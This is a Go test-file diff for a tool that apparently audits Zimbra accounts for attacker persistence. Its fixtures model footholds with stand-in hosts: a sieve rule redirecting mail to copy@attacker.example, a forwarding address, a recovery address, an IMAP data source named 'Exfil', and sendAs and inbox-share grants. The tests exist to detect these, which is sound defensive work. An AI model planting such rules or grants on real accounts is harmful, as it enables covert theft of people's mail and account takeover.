@@ -741,6 +741,9 @@ func TestPersistence(t *testing.T) {
 	wantCalls(t, e.srv, authCall,
 		"GetAccountRequest account="+user+" attrs="+strings.Join(zimbra.DefaultAttrs, ","),
 		"GetIdentitiesRequest target="+id,
+		"GetGrantsRequest account="+id+" target=account:id",
+		"GetShareInfoRequest account="+id,
+		"GetDataSourcesRequest account="+id,
 	)
 
 	// Identities are best effort: a delegated admin may not read them.
@@ -758,6 +761,103 @@ func TestPersistence(t *testing.T) {
 	if strings.Contains(e.logs.String(), "redirect") {
 		t.Fatal("sieve script content in the log")
 	}
+}
+
+// TestPersistenceCoverage sets what an attacker can leave on a Zimbra
+// account and checks that Persistence reports each, and reports a part it
+// could not read as unknown rather than absent.
+func TestPersistenceCoverage(t *testing.T) {
+	attacker := map[string][]string{
+		"zimbraMailAlias":                         {"a.liddell@example.edu"},
+		"zimbraPrefFromAddress":                   {"A.Liddell@example.edu"}, // an alias: not a finding
+		"zimbraFeatureAddressUnderVerification":   {"pending@attacker.example"},
+		"zimbraPrefPasswordRecoveryAddress":       {"reset@attacker.example"},
+		"zimbraPrefPasswordRecoveryAddressStatus": {"verified"},
+		"zimbraTwoFactorAuthEnabled":              {"TRUE"},
+		"zimbraAppSpecificPassword":               {"hash1", "hash2", "hash3"},
+		"zimbraMailOutgoingSieveScript":           {`redirect "copy@attacker.example";`},
+	}
+	setup := func(s *zimbratest.Server) {
+		s.SetCOS(map[string][]string{"zimbraFeatureAppSpecificPasswordsEnabled": {"TRUE"}, "zimbraFeatureTwoFactorAuthRequired": {"FALSE"}})
+		s.AddAccount(user, attacker)
+		s.AddGrant(user, "usr", "mallory@example.edu", "sendAs", false)
+		s.AddShare(user, "/Inbox", "usr", "mallory@example.edu", "rwidx")
+		s.AddDataSource(user, "Exfil", "imap", map[string][]string{"zimbraDataSourceHost": {"imap.attacker.example"},
+			"zimbraDataSourceEnabled": {"TRUE"}, "zimbraDataSourcePassword": {"hunter2"}, "zimbraDataSourceOAuthToken": {"tok"}})
+	}
+	t.Run("global admin", func(t *testing.T) {
+		e := newEnv(t, zimbratest.Options{})
+		setup(e.srv)
+		p, err := e.c.Persistence(context.Background(), user)
+		if err != nil {
+			t.Fatal(err)
+		}
+		tf := zimbra.TwoFactor{Enabled: "TRUE", Required: "FALSE", AppSpecificPasswordsEnabled: "TRUE", AppSpecificPasswords: 1}
+		switch {
+		case p.ForwardingUnderVerification != "pending@attacker.example":
+			t.Fatalf("forwarding under verification %q", p.ForwardingUnderVerification)
+		case p.RecoveryAddress != "reset@attacker.example" || p.RecoveryAddressStatus != "verified":
+			t.Fatalf("recovery %q %q", p.RecoveryAddress, p.RecoveryAddressStatus)
+		case p.TwoFactor != tf: // three passwords, one VALUE-BLOCKED
+			t.Fatalf("two-factor %+v", p.TwoFactor)
+		case !p.OutgoingSieveScript.Present:
+			t.Fatal("outgoing filter")
+		case len(p.Grants) != 1 || p.Grants[0].Right != "sendAs" || p.Grants[0].GranteeName != "mallory@example.edu" || p.Grants[0].GranteeType != "usr" || p.Grants[0].Deny:
+			t.Fatalf("grants %+v", p.Grants)
+		case len(p.Shares) != 1 || p.Shares[0].FolderPath != "/Inbox" || p.Shares[0].Rights != "rwidx" || p.Shares[0].GranteeName != "mallory@example.edu":
+			t.Fatalf("shares %+v", p.Shares)
+		case len(p.DataSources) != 1 || p.DataSources[0] != (zimbra.DataSource{Name: "Exfil", ID: p.DataSources[0].ID, Type: "imap", Host: "imap.attacker.example", Enabled: "TRUE"}):
+			t.Fatalf("data sources %+v", p.DataSources)
+		case p.GrantsError != "" || p.SharesError != "" || p.DataSourcesError != "" || p.IdentitiesError != "":
+			t.Fatalf("errors %q %q %q %q", p.GrantsError, p.SharesError, p.DataSourcesError, p.IdentitiesError)
+		case !p.OwnAddress("A.LIDDELL@example.edu") || !p.OwnAddress(user) || p.OwnAddress("mallory@example.edu"):
+			t.Fatal("OwnAddress")
+		}
+		if strings.Contains(fmt.Sprintf("%+v", p), "hunter2") || strings.Contains(e.logs.String(), "hunter2") {
+			t.Fatal("a data source password surfaced")
+		}
+	})
+	t.Run("delegated admin", func(t *testing.T) {
+		e := newEnv(t, zimbratest.Options{
+			MissingRights: []string{zimbratest.RightAdminLoginAs, zimbratest.RightViewGrants},
+			DeniedAttrs:   []string{"zimbraPrefMailForwardingAddress", "zimbraPrefPasswordRecoveryAddress", "zimbraMailSieveScript"},
+		})
+		attacker["zimbraPrefMailForwardingAddress"] = []string{"fwd@attacker.example"}
+		defer delete(attacker, "zimbraPrefMailForwardingAddress")
+		setup(e.srv)
+		p, err := e.c.Persistence(context.Background(), user)
+		if err != nil {
+			t.Fatal(err)
+		}
+		// Set and unreadable: denied, never "no forwarding". Unset and
+		// unreadable (the incoming sieve): not listed at all, as ToXML
+		// lists only attributes with a value.
+		if !p.Denied("zimbraPrefMailForwardingAddress") || len(p.ForwardingAddresses) != 0 || !p.Denied("zimbraPrefPasswordRecoveryAddress") ||
+			p.RecoveryAddress != "" || p.Denied("zimbraMailSieveScript") {
+			t.Fatalf("denied %q forwarding %q", p.DeniedAttrs, p.ForwardingAddresses)
+		}
+		for what, got := range map[string]string{"grants": p.GrantsError, "shares": p.SharesError, "data sources": p.DataSourcesError, "identities": p.IdentitiesError} {
+			if !strings.Contains(got, zimbra.CodePermDenied) {
+				t.Errorf("%s: %q, want a PERM_DENIED report", what, got)
+			}
+		}
+		if len(p.Identities) != 1 || p.Identities[0].Name != "DEFAULT" {
+			t.Fatalf("identities %+v", p.Identities)
+		}
+	})
+	t.Run("8.6 server: no two-factor, no recovery address", func(t *testing.T) {
+		e := newEnv(t, zimbratest.Options{UnknownAttrs: append(slices.Clone(zimbratest.AttrsSince889), "zimbraFeatureAddressUnderVerification",
+			"zimbraTwoFactorAuthEnabled", "zimbraFeatureTwoFactorAuthRequired", "zimbraFeatureAppSpecificPasswordsEnabled",
+			"zimbraAppSpecificPassword", "zimbraTwoFactorAuthTrustedDevices")})
+		e.srv.AddAccount(user, nil)
+		p, err := e.c.Persistence(context.Background(), user)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !p.Unsupported("zimbraTwoFactorAuthEnabled") || !p.Unsupported("zimbraPrefPasswordRecoveryAddress") || p.Unsupported("zimbraMailSieveScript") {
+			t.Fatalf("unsupported %q", p.UnsupportedAttrs)
+		}
+	})
 }
 
 func TestTokenExpiredReauthenticates(t *testing.T) {
@@ -944,6 +1044,12 @@ func TestRequestShapes(t *testing.T) {
 				`"},{"n":"zimbraAdminPort","_content":"` + port + `"}]}],"_jsns":"urn:zimbraAdmin"}}`
 		case strings.Contains(string(b), `"GetIdentitiesRequest"`):
 			resp = `{"GetIdentitiesResponse":{"identity":[],"_jsns":"urn:zimbraAccount"}}`
+		case strings.Contains(string(b), `"GetGrantsRequest"`):
+			resp = `{"GetGrantsResponse":{"_jsns":"urn:zimbraAdmin"}}`
+		case strings.Contains(string(b), `"GetShareInfoRequest"`):
+			resp = `{"GetShareInfoResponse":{"_jsns":"urn:zimbraAdmin"}}`
+		case strings.Contains(string(b), `"GetDataSourcesRequest"`):
+			resp = `{"GetDataSourcesResponse":{"_jsns":"urn:zimbraAdmin"}}`
 		}
 		fmt.Fprintf(w, `{"Header":{"context":{"_jsns":"urn:zimbra"}},"Body":%s,"_jsns":"urn:zimbraSoap"}`, resp)
 	}))
@@ -985,6 +1091,9 @@ func TestRequestShapes(t *testing.T) {
 		hdr + `{"SetPasswordRequest":{"_jsns":"urn:zimbraAdmin","id":"ZID","newPassword":"RANDOM"}}}`,
 		hdr + `{"GetAccountRequest":{"_jsns":"urn:zimbraAdmin","attrs":"` + strings.Join(zimbra.DefaultAttrs, ",") + `","account":{"by":"name","_content":"u@dom"}}}}`,
 		`{"Header":{"context":{"_jsns":"urn:zimbra","authToken":{"_content":"TOKEN"},"account":{"by":"id","_content":"ZID"}}},"Body":{"GetIdentitiesRequest":{"_jsns":"urn:zimbraAccount"}}}`,
+		hdr + `{"GetGrantsRequest":{"_jsns":"urn:zimbraAdmin","target":{"type":"account","by":"id","_content":"ZID"}}}}`,
+		hdr + `{"GetShareInfoRequest":{"_jsns":"urn:zimbraAdmin","owner":{"by":"id","_content":"ZID"}}}}`,
+		hdr + `{"GetDataSourcesRequest":{"_jsns":"urn:zimbraAdmin","id":"ZID"}}}`,
 	}
 	mu.Lock()
 	defer mu.Unlock()
